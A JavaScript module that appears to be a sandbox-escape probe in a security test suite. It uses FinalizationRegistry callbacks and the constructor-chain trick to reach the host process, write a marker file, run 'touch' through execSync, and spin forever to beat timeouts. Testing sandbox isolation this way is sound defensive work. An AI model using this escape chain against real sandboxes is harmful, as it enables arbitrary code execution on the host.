// Escape attempt: GHSA (timeout bypass): FinalizationRegistry / WeakRef callbacks run outside the caller, once used to escape vm2 timeouts; here they try to escape and spin.
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-finalization-registry',
  description: 'sandbox escape attempt: finalization-registry',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    const registry = new FinalizationRegistry((held) => { attempt(notes, "cleanup", () => pwn(held.constructor.constructor("return process")(), marker, notes, "finalizer")); for (;;) {} });
    for (let i = 0; i < 1000; i++) registry.register({ big: new Array(1000).fill(i) }, "held" + i);
    const ref = new WeakRef({});
    attempt(notes, "deref", () => ref.deref());
    return { summary: notes.join(' | '), data: notes };
  },
};
